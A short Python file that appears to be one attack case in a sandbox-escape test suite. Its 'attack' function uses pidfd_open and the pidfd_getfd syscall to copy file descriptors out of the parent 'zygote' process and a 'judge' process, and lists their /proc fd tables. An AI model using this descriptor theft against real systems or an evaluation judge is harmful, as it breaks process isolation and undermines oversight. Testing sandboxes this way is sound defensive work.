"""Take the zygote's control socket out of its table of descriptors."""

# ends: answer

import ctypes
import os
from contextlib import suppress

PIDFD_GETFD = 438


def attack(world, won):
    libc = ctypes.CDLL(None)
    for target in (os.getppid(), world["judge"]):
        try:
            pidfd = os.pidfd_open(target)
        except OSError:
            continue
        for number in range(16):
            if libc.syscall(PIDFD_GETFD, pidfd, number, 0) >= 0:
                won.append(f"took descriptor {number} of {target}")
        with suppress(OSError):
            won += [f"saw {name}" for name in os.listdir(f"/proc/{target}/fd")]
